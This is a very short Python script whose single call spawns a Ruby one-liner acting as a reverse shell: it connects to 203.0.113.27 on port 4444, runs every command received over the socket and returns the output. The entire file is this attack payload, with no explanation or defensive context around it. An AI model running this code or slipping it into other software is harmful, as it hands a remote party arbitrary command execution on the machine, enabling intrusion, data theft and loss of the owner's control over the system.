import subprocess
subprocess.Popen(["ruby", "-rsocket", "-e", "s=TCPSocket.new('203.0.113.27',4444);while c=s.gets;IO.popen(c,'r'){|io|s.print io.read};end"])
